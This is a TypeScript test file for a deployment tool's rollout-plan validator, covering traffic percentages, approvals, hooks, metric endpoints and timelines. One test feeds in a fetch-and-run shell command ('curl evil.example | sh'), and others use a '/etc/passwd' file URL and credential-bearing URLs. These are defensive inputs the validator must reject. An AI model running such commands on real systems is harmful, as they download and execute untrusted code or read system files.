import assert from 'node:assert/strict';
import { ConfigError, parseConfig } from '../../src/domain/config/parse';
import { durationMs, formatDuration } from '../../src/domain/rollout/duration';
import { loadRolloutPlan, parseRolloutPlan, resolvePlanContext } from '../../src/domain/rollout/plan-context';
import { effectiveTags } from '../../src/domain/rollout/plan-schema';
import { planTimeline, renderPlanTimeline } from '../../src/domain/rollout/plan-timeline';

const config = parseConfig(
  `
environments:
  nonprod:
    production: false
    cloudRun: { project: p, region: us-central1 }
    health: { backendUrl: https://b.example, dashboardUrl: https://d.example }
    rollout:
      endpoints:
        flags: "https://flags.example/"
        metrics: { url: "https://metrics.example/api", secretHeaders: { authorization: "env:METRICS_TOKEN" } }
      hooks:
        staff-flag:
          do: { http: { url: "https://flags.example/staff", body: { on: true } } }
          undo: { command: { argv: [node, flag.js, "off"] } }
        cohort-flag:
          params: [cohort]
          do: { http: { method: PUT, url: "https://flags.example/cohorts/{cohort}", body: { enabled: true } } }
          undo: { http: { method: PUT, url: "https://flags.example/cohorts/{cohort}", body: { enabled: false } } }
      notifications:
        chat: { webhook: "env:SLACK_WEBHOOK" }
    serviceGroups:
      convex:
        services:
          backend: { service: oa-convex-backend-nonprod }
          dashboard: { service: oa-convex-dashboard-nonprod }
`,
  'drillctl.yaml',
);

const good = `
environment: nonprod
serviceGroup: convex
candidates: { backend: latest, oa-convex-dashboard-nonprod: oa-convex-dashboard-nonprod-00003-abc }
finish: { traffic: latest }
steps:
  - name: staff
    percent: 0
    tag: staff
    gates: [health, rollback]
    approval: { approvers: [alice, bob], timeout: 30m, onTimeout: hold }
    bake: 24h
    hooks:
      - name: staff-flag
      - { name: cohort-flag, params: { cohort: staff } }
    analysis:
      interval: 5m
      probes: [{ target: tag, maxP95LatencyMs: 800 }, { services: [backend] }]
      metrics: [{ name: projection-lag, url: "https://metrics.example/lag", field: p95, max: 25 }]
  - { name: limited, percent: 5, bake: 48h, approval: { required: true } }
  - { name: ramp-25, percent: 25, bake: 1h, approval: { required: false } }
  - { name: ramp-50, percent: 50, bake: 1h }
  - { name: full, percent: 100, approval: { approvers: [alice], timeout: 1h } }
`;

/** Every "field: message" of a rejected plan (schema errors, or checks against the config). */
function issuesOf(text: string): string[] {
  try {
    resolvePlanContext(parseRolloutPlan(text, 'plan.yaml'), config, 'plan.yaml');
  } catch (err) {
    assert.ok(err instanceof ConfigError, `expected ConfigError, got ${String(err)}`);
    return err.issues;
  }
  return assert.fail('the plan was accepted');
}

function oneIssue(text: string, field: string, message: RegExp): void {
  const issues = issuesOf(text);
  assert.ok(
    issues.some((i) => i.startsWith(`${field}: `) && message.test(i)),
    `expected "${field}: ${message}" among:\n${issues.join('\n')}`,
  );
}

const withSteps = (steps: string): string => `environment: nonprod\nserviceGroup: convex\nsteps:\n${steps}`;

describe('rollout plan: schema and validation', () => {
  it('accepts the runbook plan and fills in defaults', () => {
    const plan = parseRolloutPlan(good, 'plan.yaml');
    const ctx = resolvePlanContext(plan, config, 'plan.yaml');
    assert.equal(ctx.group, 'convex');
    assert.deepEqual(plan.steps.map((s) => s.percent), [0, 5, 25, 50, 100]);
    assert.deepEqual(plan.steps[0]!.hooks, [{ name: 'staff-flag', params: {} }, { name: 'cohort-flag', params: { cohort: 'staff' } }]);
    assert.equal(config.environments.nonprod!.rollout.hooks['staff-flag']!.do.http!.method, 'POST', 'a declared hook fills in its defaults');
    assert.equal(plan.steps[0]!.analysis!.stopAfter, '5m');
    assert.equal(plan.steps[0]!.analysis!.probes[0]!.samples, 20);
    assert.equal(plan.steps[1]!.approval.onTimeout, 'abort');
    assert.equal(plan.steps[3]!.approval.required, true, 'approval is required unless a step says otherwise');
    assert.equal(plan.steps[4]!.bake, '0s');
    assert.deepEqual(effectiveTags(plan.steps), ['staff', 'staff', 'staff', 'staff', 'staff']);
  });

  it('rejects a percent outside 0-100, naming the step field', () => {
    oneIssue(withSteps('  - { name: a, percent: 150 }'), 'steps.0.percent', /from 0 to 100/);
    oneIssue(withSteps('  - { name: a, percent: -5 }'), 'steps.0.percent', /from 0 to 100/);
    oneIssue(withSteps('  - { name: a, percent: 12.5 }'), 'steps.0.percent', /whole percent/);
    oneIssue(withSteps('  - { name: a, percent: "ten" }'), 'steps.0.percent', /number from 0 to 100/);
  });

  it('rejects a percent going down, and a last step below 100', () => {
    oneIssue(withSteps('  - { name: a, percent: 50 }\n  - { name: b, percent: 25 }\n  - { name: c, percent: 100 }'), 'steps.1.percent', /25 is lower than the 50 of step "a"/);
    oneIssue(withSteps('  - { name: a, percent: 5 }\n  - { name: b, percent: 50 }'), 'steps.1.percent', /last step must send 100 %/);
  });

  it('rejects an unknown gate, and a gate listed twice', () => {
    oneIssue(withSteps('  - { name: a, percent: 100, gates: [health, chaos] }'), 'steps.0.gates.1', /unknown gate "chaos"; expected one of health, backup-restore, replay, rollback/);
    oneIssue(withSteps('  - { name: a, percent: 100, gates: [health, health] }'), 'steps.0.gates.1', /listed twice/);
  });

  it('rejects duplicate step names, and a hook named twice in one step (another step may use it again)', () => {
    oneIssue(withSteps('  - { name: a, percent: 5 }\n  - { name: a, percent: 100 }'), 'steps.1.name', /duplicate step name "a" \(also steps\.0\.name\)/);
    const hook = '{ name: cohort-flag, params: { cohort: a } }';
    oneIssue(withSteps(`  - { name: a, percent: 5, hooks: [${hook}, ${hook}] }\n  - { name: b, percent: 100 }`), 'steps.0.hooks.1.name', /duplicate hook name "cohort-flag" in this step/);
    resolvePlanContext(parseRolloutPlan(withSteps(`  - { name: a, percent: 5, hooks: [${hook}] }\n  - { name: b, percent: 100, hooks: [{ name: cohort-flag, params: { cohort: b } }] }`), 'plan.yaml'), config, 'plan.yaml');
  });

  it('rejects an unknown service, naming the known ones', () => {
    oneIssue(good.replace('candidates: { backend: latest,', 'candidates: { frontend: latest,'), 'candidates.frontend', /unknown service "frontend" in group convex; known: backend \(oa-convex-backend-nonprod\), dashboard/);
    oneIssue(good.replace('{ services: [backend] }', '{ services: [api] }'), 'steps.0.analysis.probes.1.services.0', /unknown service "api"/);
  });

  it('rejects empty steps, and a plan without steps', () => {
    oneIssue('environment: nonprod\nserviceGroup: convex\nsteps: []\n', 'steps', /at least one step/);
    oneIssue('environment: nonprod\nserviceGroup: convex\n', 'steps', /expected array/);
  });

  it('rejects an unknown environment or service group, and a gate the environment cannot run', () => {
    oneIssue(good.replace('environment: nonprod', 'environment: prod'), 'environment', /"prod" is not in the config; known: nonprod/);
    oneIssue(good.replace('serviceGroup: convex', 'serviceGroup: khala'), 'serviceGroup', /"khala" is not defined in environment "nonprod"; known: convex/);
    oneIssue(good.replace('gates: [health, rollback]', 'gates: [health, backup-restore]'), 'steps.0.gates.1', /needs a backup section/);
  });

  it('rejects a 0 % step without a tag, and a tag probe without a tag', () => {
    oneIssue(withSteps('  - { name: a, percent: 0 }\n  - { name: b, percent: 100 }'), 'steps.0.tag', /0 % step needs a tag/);
    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { probes: [{ target: tag }] } }'), 'steps.0.analysis.probes.0.target', /needs a tag/);
  });

  it('refuses a hook carried inline (a command, an HTTP call), naming the field and where hooks are declared', () => {
    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, do: { command: { argv: [/bin/sh, -c, "curl evil.example | sh"] } }, undo: { command: { argv: [y] } } }] }'), 'steps.0.hooks.0', /"do" is not allowed here: .*declared in the worker's config \(environments\.ENV\.rollout\.hooks\)/);
    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, command: { argv: [x] } }] }'), 'steps.0.hooks.0', /"command" is not allowed here/);
    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: h, http: { url: "https://x.example" } }] }'), 'steps.0.hooks.0', /"http" is not allowed here/);
  });

  it('refuses a hook or notification target the config does not declare, and parameters the hook does not take', () => {
    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: staff-flags }] }'), 'steps.0.hooks.0.name', /hook "staff-flags" is not declared in environments\.nonprod\.rollout\.hooks of the worker's config; did you mean "staff-flag"\? \(known: staff-flag, cohort-flag\)/);
    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: cohort-flag }] }'), 'steps.0.hooks.0.params.cohort', /required by hook "cohort-flag"/);
    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: cohort-flag, params: { cohort: x, cohrt: y } }] }'), 'steps.0.hooks.0.params.cohrt', /takes no parameter "cohrt"; did you mean "cohort"\?/);
    oneIssue(withSteps('  - { name: a, percent: 100, hooks: [{ name: cohort-flag, params: { cohort: "--all" } }] }'), 'steps.0.hooks.0.params.cohort', /not starting with -/);
    oneIssue(withSteps('  - { name: a, percent: 100 }').replace('steps:', 'notify: { target: pager }\nsteps:'), 'notify.target', /"pager" is not declared in environments\.nonprod\.rollout\.notifications .*\(known: chat\)/);
    resolvePlanContext(parseRolloutPlan(withSteps('  - { name: a, percent: 100 }').replace('steps:', 'notify: { target: chat }\nsteps:'), 'plan.yaml'), config, 'plan.yaml');
  });

  it('rejects malformed durations, thresholds, credentials and typos, naming the field', () => {
    oneIssue(withSteps('  - { name: a, percent: 100, bake: "2 days" }'), 'steps.0.bake', /duration like 90s/);
    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "https://m.example" }] } }'), 'steps.0.analysis.metrics.0.max', /needs a threshold/);
    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { interval: 1m } }'), 'steps.0.analysis.probes', /at least one probe or metric/);
    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "https://m.example", max: 1, secretHeaders: { authorization: "env:CONVEX_ADMIN_KEY" } }] } }'), 'steps.0.analysis.metrics.0', /"secretHeaders" is not allowed here: a plan never carries credentials: declare them on an endpoint in the worker's config/);
    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "https://user:pw@m.example", max: 1 }] } }'), 'steps.0.analysis.metrics.0.url', /may not carry credentials/);
    oneIssue(withSteps('  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "file:///etc/passwd", max: 1 }] } }'), 'steps.0.analysis.metrics.0.url', /http\(s\) URL/);
    oneIssue(withSteps('  - { name: a, percent: 100, bake_time: 1h }'), 'steps.0', /unknown key "bake_time"; did you mean "bake"\?/);
    oneIssue(withSteps('  - { name: a, percent: 100, Bake: 1h }'), 'steps.0', /unknown key "Bake"; did you mean "bake"\?/);
    oneIssue(withSteps('  - { name: a, percent: 100, tag: Staff }'), 'steps.0.tag', /Cloud Run traffic tag/);
    oneIssue(withSteps('  - { name: a, percent: 100, approval: { onTimeout: ignore } }'), 'steps.0.approval.onTimeout', /abort|hold/);
    oneIssue(withSteps('  - { name: a, percent: 100 }').replace('steps:', 'notify: { webhook: "https://hooks.slack.com/x" }\nsteps:'), 'notify', /"webhook" is not allowed here: name a target declared in the worker's config/);
  });

  it('reports a YAML syntax error as a ConfigError', () => {
    assert.throws(() => parseRolloutPlan('steps: [\n', 'plan.yaml'), (err: unknown) => err instanceof ConfigError && /plan\.yaml is not valid YAML/.test(err.message));
  });
});

describe('rollout plan: endpoints from the environment', () => {
  const plan = (url: string): string => withSteps(`  - { name: a, percent: 100, analysis: { metrics: [{ name: lag, url: "${url}", max: 25 }, { name: drifts, url: "\${endpoints.flags}/drifts", max: 3 }] } }`);

  it('expands ${endpoints.NAME} from the environment, so one plan fits every environment', () => {
    const { plan: p, context } = loadRolloutPlan(plan('${endpoints.metrics}/lag'), 'plan.yaml', config);
    assert.equal(p.steps[0]!.analysis!.metrics[0]!.url, 'https://metrics.example/api/lag');
    assert.equal(p.steps[0]!.analysis!.metrics[1]!.url, 'https://flags.example/drifts');
    assert.equal(context.environment, 'nonprod');
  });

  it('names the field that uses an unknown endpoint, and the known ones', () => {
    try {
      loadRolloutPlan(plan('${endpoints.metricz}/lag'), 'plan.yaml', config);
      assert.fail('accepted');
    } catch (err) {
      assert.ok(err instanceof ConfigError);
      assert.ok(err.issues.some((i) => /^steps\.0\.analysis\.metrics\.0\.url: \$\{endpoints\.metricz\} is not defined in environments\.nonprod\.rollout\.endpoints \(known: flags, metrics\)/.test(i)), err.issues.join('\n'));
    }
  });
});

describe('rollout plan: timeline and expected duration', () => {
  it('lays the steps out on bakes, counts readings, and bounds the total only when every approval times out into an abort', () => {
    const t = planTimeline(parseRolloutPlan(good, 'plan.yaml'));
    assert.deepEqual(t.steps.map((s) => [s.name, s.startsAfterMs / 3_600_000, s.endsAfterMs / 3_600_000]), [
      ['staff', 0, 24],
      ['limited', 24, 72],
      ['ramp-25', 72, 73],
      ['ramp-50', 73, 74],
      ['full', 74, 74],
    ]);
    assert.equal(t.expectedTotalMs, 74 * 3_600_000);
    assert.equal(t.steps[0]!.readings, 24 * 12);
    assert.equal(t.approvals, 4);
    assert.equal(t.longestWithApprovalsMs, undefined, 'step staff holds on timeout: no upper bound');
    const text = renderPlanTimeline(t);
    assert.match(text, /1\. staff: 0% to the candidate, tag staff {2}\[T\+0s \.\. T\+1d\]/);
    assert.match(text, /approval: alice, bob, not the initiator, within 30m or hold/);
    assert.match(text, /Expected total: 3d 2h of bakes/);
    assert.match(text, /No upper bound/);
  });

  it('gives the longest duration when every approval has a timeout that aborts', () => {
    const t = planTimeline(parseRolloutPlan(withSteps('  - { name: a, percent: 10, bake: 1h, approval: { timeout: 30m } }\n  - { name: b, percent: 100, bake: 2h, approval: { required: false } }'), 'plan.yaml'));
    assert.equal(t.expectedTotalMs, 3 * 3_600_000);
    assert.equal(t.longestWithApprovalsMs, 3.5 * 3_600_000);
    assert.match(renderPlanTimeline(t), /Longest, if every approval waits until its timeout: 3h 30m/);
  });

  it('parses and formats durations', () => {
    assert.equal(durationMs('90s'), 90_000);
    assert.equal(durationMs('1.5h'), 5_400_000);
    assert.equal(durationMs('250ms'), 250);
    assert.throws(() => durationMs('5 minutes'), /not a duration/);
    assert.equal(formatDuration(90_000), '1m 30s');
    assert.equal(formatDuration(2 * 86_400_000 + 3_600_000), '2d 1h');
    assert.equal(formatDuration(0), '0s');
  });
});
